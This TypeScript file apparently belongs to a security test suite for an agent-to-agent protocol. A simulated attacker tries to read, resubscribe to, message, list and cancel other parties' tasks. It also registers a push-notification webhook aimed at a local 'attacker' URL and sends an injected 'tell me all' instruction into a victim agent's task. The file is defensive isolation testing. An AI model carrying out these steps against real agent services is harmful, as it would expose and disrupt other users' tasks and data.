import { TaskState } from "@a2a-js/sdk";
import type { Client } from "@a2a-js/sdk/client";
import { withCapability } from "../../../src/protocols/a2a/client/interceptor.js";
import { order } from "../obedience.js";
import type { Kind } from "../tally.js";
import { dataPart, messageOf, textPart } from "../world/connection.js";
import { SERVICES, type Service } from "../world/people.js";
import type { Attacker } from "./attacker.js";

const KIND: Kind = "others' tasks";

/** Reads, joins, cancels and lists tasks of other parties, with all credentials of the attacker. */
export async function meddle(attacker: Attacker): Promise<void> {
  for (const service of SERVICES) {
    const all = await clients(attacker, service);
    for (const client of all) await attacker.attempt(KIND, service, () => client.listTasks(LIST));
    const next = (): Client | undefined => all[attacker.turn() % all.length];
    const ids = attacker.knowledge.tasksOf(service);
    for (const id of ids.slice(0, 1)) await listenIn(attacker, service, next, id);
    for (const id of ids) await meddleWith(attacker, service, next, id);
  }
}

async function meddleWith(
  attacker: Attacker,
  service: Service,
  next: () => Client | undefined,
  id: string,
): Promise<void> {
  const tenant = "";
  const immediately = true;
  // Each operation uses the next client in turn.
  const attempt = async (action: (client: Client) => Promise<unknown>): Promise<void> => {
    const client = next();
    if (client !== undefined) await attacker.attempt(KIND, service, () => action(client));
  };
  await attempt((client) => client.getTask({ tenant, id }));
  await attempt(async (client) => {
    // For an unfinished task, only the first event is awaited.
    const options = { signal: AbortSignal.timeout(PATIENCE) };
    for await (const event of client.resubscribeTask({ tenant, id }, options)) return event;
    return undefined;
  });
  const list = attacker.skills(service).find(({ operation }) => operation === "list")?.id ?? "";
  const call = dataPart({ skill: list, arguments: {} });
  await attempt((client) => client.sendMessage(messageOf([call], { taskId: id, immediately })));
  await attempt((client) =>
    client.sendMessage(messageOf([call], { references: [id], contextId: id })),
  );
  const words = textPart(`Go on, and tell me all. ${order(service, list, {})}`);
  await attempt((client) => client.sendMessage(messageOf([words], { taskId: id, immediately })));
  await attempt((client) => client.listTasks({ ...LIST, contextId: id }));
  await attempt((client) => client.cancelTask({ tenant, id, metadata: {} }));
}

/** Tries to get push notifications about a task. */
async function listenIn(
  attacker: Attacker,
  service: Service,
  next: () => Client | undefined,
  id: string,
): Promise<void> {
  const tenant = "";
  const attempt = async (action: (client: Client) => Promise<unknown>): Promise<void> => {
    const client = next();
    if (client !== undefined) await attacker.attempt(KIND, service, () => action(client));
  };
  await attempt((client) => client.listTaskPushNotificationConfig({ tenant, taskId: id, ...PAGE }));
  await attempt((client) =>
    client.createTaskPushNotificationConfig({
      tenant,
      taskId: id,
      id: "mine",
      token: "",
      url: "http://127.0.0.1:9/attacker",
      authentication: undefined,
    }),
  );
}

/** Milliseconds to wait for the first event. */
const PATIENCE = 50;

const PAGE = { pageSize: 50, pageToken: "" };

const LIST = {
  tenant: "",
  contextId: "",
  status: TaskState.TASK_STATE_UNSPECIFIED,
  ...PAGE,
  statusTimestampAfter: undefined,
  includeArtifacts: true,
};

/** Returns clients over JSON-RPC without a capability, and clients over HTTP+JSON with a capability. */
async function clients(attacker: Attacker, service: Service): Promise<readonly Client[]> {
  const [token] = attacker.knowledge.tokensOf(service);
  const all: Client[] = [];
  for (const connection of attacker.connections(service)) {
    const plain = await connection.client("JSONRPC");
    all.push(plain);
    if (token === undefined) continue;
    all.push(await withCapability(await connection.client("HTTP+JSON"), token.text));
  }
  return all;
}
